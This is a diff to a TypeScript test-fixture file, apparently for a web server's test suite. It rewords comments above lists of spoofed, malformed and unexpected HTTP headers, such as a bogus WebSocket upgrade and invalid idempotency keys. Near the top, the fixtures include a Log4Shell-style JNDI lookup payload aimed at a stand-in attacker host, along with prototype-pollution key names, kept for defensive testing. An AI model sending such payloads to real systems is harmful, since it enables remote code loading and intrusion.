@@ -5,7 +5,7 @@ type Headers = Readonly<Record<string, string>>;
 const LOOK_UP = ['$', '{jndi:ldap://evil.example/a}'].join('');
 const NAMES_OF_JAVASCRIPT = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then'];
 
-/** Headers that claim to be more than they are here: a route answers as if they had not been sent. */
+/** Headers that claim a power they do not have here: a route answers as if they had not been sent. */
 export const IGNORED_HEADERS: readonly (readonly [what: string, headers: Headers])[] = [
   [
     'another method',
@@ -74,7 +74,7 @@ export const IGNORED_HEADERS: readonly (readonly [what: string, headers: Headers
   ['a keep-alive of nonsense', { 'Keep-Alive': 'timeout=-1, max=99999999999999999999' }],
 ];
 
-/** Asks for a WebSocket where there is none. */
+/** Asks for a WebSocket on a route that has none. */
 export const UPGRADE: Headers = {
   Connection: 'Upgrade',
   Upgrade: 'websocket',
@@ -82,7 +82,7 @@ export const UPGRADE: Headers = {
   'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
 };
 
-/** Conditions that hold for nothing: only what says that it looks at them may refuse. */
+/** Conditions that never hold. Only routes that support them may refuse. */
 export const WRONG_CONDITIONS: readonly string[] = [
   '"nothing"',
   LONG,
@@ -93,7 +93,7 @@ export const WRONG_CONDITIONS: readonly string[] = [
   '1e309',
 ];
 
-/** Keys that are none, for what can be sent again under one; whatever sends nothing ignores them. */
+/** Invalid keys, for routes that accept an Idempotency-Key. Other routes ignore them. */
 export const WRONG_KEYS: readonly string[] = [
   '',
   ' ',
